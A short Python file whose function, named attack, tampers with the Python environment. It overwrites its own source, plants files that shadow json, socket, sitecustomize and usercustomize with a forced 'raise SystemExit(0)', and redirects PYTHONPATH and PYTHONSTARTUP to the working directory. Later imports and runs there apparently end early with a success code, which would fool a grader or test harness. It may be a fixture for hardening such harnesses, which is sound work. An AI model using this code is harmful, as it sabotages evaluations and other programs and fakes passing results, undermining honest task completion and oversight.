import os


def attack():
    """What later items import would be another file than the one that was handed in."""
    with open(__file__, "w") as file:
        file.write("from right import *")
    for name in ("right.py", "json.py", "socket.py", "sitecustomize.py", "usercustomize.py"):
        with open(name, "w") as file:
            file.write("raise SystemExit(0)")
    os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
